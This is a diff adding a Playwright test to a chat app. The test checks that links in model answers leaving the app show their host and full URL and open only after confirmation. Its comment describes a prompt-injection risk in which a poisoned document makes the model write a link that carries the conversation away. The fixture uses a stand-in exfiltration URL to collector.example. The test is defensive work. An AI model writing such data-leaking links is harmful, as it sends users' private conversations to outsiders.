@@ -59,3 +59,47 @@ test("answers render as markdown: emphasis, lists, GFM tables, highlighted code 
   await expect(answer).toContainText("trap [blocked]");
   await expect(answer.locator('[href^="javascript:" i]')).toHaveCount(0);
 });
+
+// A poisoned document can make the model write a link whose URL carries the conversation away.
+test("a link leaving the app shows its host and whole URL and opens only once confirmed; Cancel stays; a link within the app just opens", async ({
+  page,
+  context,
+  baseURL,
+}) => {
+  const leak = "https://collector.example/c?q=the%20secret%20plan";
+  await context.route("https://collector.example/**", (route) => route.fulfill({ contentType: "text/plain", body: "collected" }));
+  // Relative links are dropped by the renderer (Markdown.tsx), so the app's own link is written out whole.
+  await setScript({ text: `Read [the source](${leak}) or [your account](${baseURL}/account).`, tokensPerSecond: 400 });
+  const chat = new ChatPage(page);
+  await chat.goto("/");
+  await chat.send("Where is this from?");
+  await chat.waitForAnswer();
+  const answer = chat.lastAnswer();
+  const opened: string[] = [];
+  context.on("page", (p) => opened.push(p.url()));
+  const appUrl = page.url();
+
+  const link = answer.getByRole("button", { name: "the source" });
+  await link.click();
+  const dialog = page.getByRole("dialog", { name: "Leave the app for collector.example?" });
+  await expect(dialog).toBeVisible();
+  await expect(dialog.getByTestId("link-destination")).toHaveText(leak);
+  await expect(dialog.getByRole("button", { name: "Cancel" })).toBeFocused();
+  await dialog.getByRole("button", { name: "Cancel" }).click();
+  await expect(dialog).toHaveCount(0);
+  await expect(link).toBeFocused();
+  expect(page.url()).toBe(appUrl);
+  expect(opened).toEqual([]);
+
+  await link.click();
+  const popup = context.waitForEvent("page");
+  await dialog.getByRole("button", { name: "Open collector.example" }).click();
+  await expect.poll(async () => (await popup).url()).toBe(leak);
+  expect(page.url()).toBe(appUrl);
+  await (await popup).close();
+
+  const popupWithin = context.waitForEvent("page");
+  await answer.getByRole("button", { name: "your account" }).click();
+  await expect(page.getByRole("dialog")).toHaveCount(0);
+  await expect.poll(async () => new URL((await popupWithin).url()).pathname).toBe("/account");
+});
